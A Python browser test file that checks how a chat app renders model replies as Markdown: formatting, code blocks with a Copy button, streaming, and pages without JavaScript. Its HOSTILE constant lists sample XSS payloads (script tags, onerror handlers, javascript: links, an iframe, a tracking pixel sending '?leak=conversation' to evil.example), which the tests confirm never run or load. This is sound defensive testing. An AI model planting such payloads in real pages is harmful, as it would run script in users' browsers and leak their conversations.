"""Replies rendered as Markdown in Roles & Chat (issue 25): formatting, code blocks with Copy, and nothing a model
writes runs, loads or leaves the page; server-rendered, streamed, without JavaScript, at 1280 and 390 px."""

import threading

import pytest

from . import OUTPUT
from .axe_check import axe_problems
from .conftest import browser_login

from ..integration.chat_helpers import chat, game, new_session  # noqa: F401 (fixture)

pytestmark = pytest.mark.browser

CODE = 'print("<b>not bold</b>")\nx = 1 < 2'
REPLY = (
    "## The plan\n\n**Bold move** and a [guide](https://example.org/guide).\n\n"
    f"```python\n{CODE}\n```\n\n"
    "- first\n- second\n\n| Item | Cost |\n|:--|--:|\n| Sword | 12 |\n"
)
# Every way a reply could try to run script, load something or leave the page. `window.__xss` is set by any of
# them that runs; the evil host would see any request (the browser's proxy for non-loopback hosts is closed).
HOSTILE = (
    "<script>window.__xss = 'script'</script>\n\n"
    '<img src="https://evil.example/a.png" onerror="window.__xss = \'img\'">\n\n'
    "[click me](javascript:window.__xss='link') and [data](data:text/html,<script>alert(1)</script>)\n\n"
    "![tracking pixel](https://evil.example/pixel.png?leak=conversation)\n\n"
    "<a href=\"javascript:window.__xss='raw'\">raw link</a> <iframe src=\"https://evil.example/\"></iframe>\n\n"
    "```html\n<script>window.__xss = 'fence'</script><img src=x onerror=\"window.__xss='fence-img'\">\n```\n"
)


def hostile_page_checks(page, log_selector=".msg-ai"):
    """Nothing ran, nothing loaded, nothing from the model became an element that could."""
    assert page.evaluate("() => window.__xss === undefined")
    reply = page.locator(log_selector).last
    assert reply.locator("script, img, iframe, [onerror]").count() == 0
    hrefs = reply.locator("[data-text] a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert hrefs and all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
    assert reply.locator("a[href='https://evil.example/pixel.png?leak=conversation']").text_content() == \
        "Image: tracking pixel"  # the image is a link to click, never loaded
    # The fenced HTML is shown as code, character for character.
    assert "<script>window.__xss = 'fence'</script>" in reply.locator(".code-block code").first.text_content()


def send_in_a_new_session(page, base, message):
    """A new session in the page, a message to the Game Master, sent (streamed with JS, posted without)."""
    page.goto(f"{base}/roles")
    page.click("button:has-text('New session')")
    page.select_option("#chat-role", "gm")
    page.fill("#chat-message", message)
    page.click("#chat-send")


def watch(page):
    """Requests to anything but the app, dialogs and CSP violations, collected while the test runs."""
    seen = {"outside": [], "dialogs": [], "csp": []}
    page.on("request", lambda r: None if r.url.startswith("http://127.0.0.1") else seen["outside"].append(r.url))
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("console", lambda m: "Content Security Policy" in m.text and seen["csp"].append(m.text))
    return seen


@pytest.mark.parametrize("width", [1280, 390])
def test_a_stored_reply_is_rendered_and_its_code_copied(game, browser, width):
    game.fakes.a.reply = REPLY
    sid = new_session(game)
    assert chat(game, sid, "gm", "Plan?").status_code == 200
    context = browser.new_context(viewport={"width": width, "height": 900})
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    seen = watch(page)
    browser_login(page, game.base)
    page.goto(f"{game.base}/roles?session={sid}")
    reply = page.locator(".msg-ai").last
    text = reply.locator("[data-text]")
    assert text.locator("h5").text_content() == "The plan"  # under the page's own h2/h3
    assert text.locator("strong").text_content() == "Bold move"
    link = text.locator("a", has_text="guide")
    assert link.get_attribute("href") == "https://example.org/guide"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert text.locator("li").all_text_contents() == ["first", "second"]
    assert text.locator("td.md-right").text_content() == "12"
    code = text.locator(".code-block code")
    assert code.text_content() == CODE + "\n" and code.locator("b").count() == 0
    assert reply.locator(".code-lang").text_content() == "python"
    button = reply.locator("button[data-copy-code]")
    assert button.get_attribute("aria-label") == "Copy python"
    button.click()
    assert page.evaluate("() => navigator.clipboard.readText()") == CODE + "\n"
    assert button.text_content() == "Copied"
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.screenshot(path=str(OUTPUT / f"reply-markdown-{width}.png"), full_page=True)
    assert seen == {"outside": [], "dialogs": [], "csp": []}
    context.close()


def test_a_streamed_reply_is_plain_while_streaming_then_rendered(game, new_page):
    gate = threading.Event()
    game.fakes.a.reply, game.fakes.a.gate = REPLY, gate
    page = new_page(game.base)
    seen = watch(page)
    send_in_a_new_session(page, game.base, "Plan?")
    page.wait_for_function("() => { const t = document.querySelector('.msg-streaming [data-text]');"
                           " return t && t.textContent.length > 0; }")
    streaming = page.locator(".msg-streaming [data-text]")
    assert streaming.text_content() == "## "  # the first word, as typed: plain text while it streams
    assert streaming.locator("*").count() == 0
    gate.set()
    reply = page.locator(".msg-ai").last
    reply.locator("[data-meta]").wait_for()
    text = reply.locator("[data-text]")
    text.locator("strong").wait_for()
    assert text.locator("h5").text_content() == "The plan"
    assert "##" not in text.text_content() and "**" not in text.text_content()
    assert text.locator(".code-block code").text_content() == CODE + "\n"
    reply.locator("button[data-copy-code]").wait_for()  # copy-code.js sees the reply swapped in
    assert reply.locator("[data-meta]").count() == 1  # the answered-by line once, under the reply
    assert seen == {"outside": [], "dialogs": [], "csp": []}


@pytest.mark.parametrize("javascript", [True, False])
def test_a_hostile_reply_runs_nothing_and_loads_nothing(game, new_page, javascript):
    game.fakes.a.reply = HOSTILE
    page = new_page(game.base, javascript=javascript)
    seen = watch(page)
    send_in_a_new_session(page, game.base, "Do your worst")
    page.locator(".msg-ai [data-meta]").wait_for()
    page.locator(".msg-ai [data-text] .code-block").wait_for()  # streamed (JS) or posted (no JS): rendered
    if javascript:
        hostile_page_checks(page)
        page.reload()  # the same reply rendered by the page itself
    hostile_page_checks(page)
    assert page.locator(".msg-ai a", has_text="click me").count() == 0  # a javascript: link stays literal text
    assert "[click me](javascript:" in page.locator(".msg-ai [data-text]").last.text_content()
    assert seen == {"outside": [], "dialogs": [], "csp": []}


def test_without_javascript_code_blocks_show_without_a_copy_button(game, new_page):
    game.fakes.a.reply = REPLY
    page = new_page(game.base, javascript=False, width=390)
    send_in_a_new_session(page, game.base, "Plan?")
    text = page.locator(".msg-ai [data-text]").last
    assert text.locator("strong").text_content() == "Bold move"
    assert text.locator(".code-block code").text_content() == CODE + "\n"
    assert page.locator("button[data-copy-code]").count() == 0  # a button that could not work is not shown
    assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_axe_on_a_rendered_reply(game, browser):
    game.fakes.a.reply = REPLY + "\n" + HOSTILE + "\n```\n" + "a very long line of code " * 20 + "\n```\n"
    sid = new_session(game)
    assert chat(game, sid, "gm", "Plan?").status_code == 200

    def prepare(page):  # copy-code.js has added its buttons
        page.locator("button[data-copy-code]").first.wait_for()

    assert axe_problems(browser, game.base, f"/roles?session={sid}", prepare) == {}
